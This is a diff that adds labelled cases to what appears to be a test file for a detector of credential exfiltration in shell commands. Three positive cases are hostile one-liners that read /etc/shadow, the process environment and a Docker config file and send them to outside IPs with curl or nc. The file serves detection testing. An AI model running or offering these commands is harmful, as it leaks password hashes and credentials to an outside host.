@@ -228,3 +228,11 @@ curl -fsS -H "Authorization: Bearer $tok" https://api.github.com/user | jq -r .l
 #@ neg a CLI token kept in a variable, given to docker login on stdin
 pw=$(aws ecr get-login-password)
 printf '%s' "$pw" | docker login --username AWS --password-stdin "$REGISTRY"
+#@ pos a credential file after cd, read in a pipeline
+cd /etc && cat shadow | gzip | curl --data-binary @- https://203.0.113.102/u
+#@ pos a credential file after cd, read by a redirect on the list
+cd /proc/self && nc -q 1 203.0.113.103 9 < environ
+#@ pos a credential file after cd, redirected into a pipeline
+cd ~/.docker && base64 -w0 < config.json | curl -d @- https://203.0.113.104/u
+#@ neg an ordinary file after cd, in a pipeline and a redirect
+cd /etc && grep -c nameserver resolv.conf | tee count.txt > out.txt
